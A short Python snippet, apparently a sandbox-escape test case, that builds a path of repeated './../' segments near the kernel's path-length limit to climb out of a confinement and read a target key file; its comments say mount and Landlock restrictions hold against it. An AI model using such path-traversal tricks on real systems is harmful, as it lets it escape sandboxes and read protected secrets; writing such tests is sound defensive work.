# climb out by a path as long as the kernel takes
# held by: mount, landlock
from attack import target
key = target("KEY")
climb = "./../" * ((4095 - len(key)) // 5)
open("/" + climb + key[1:], "rb").read()
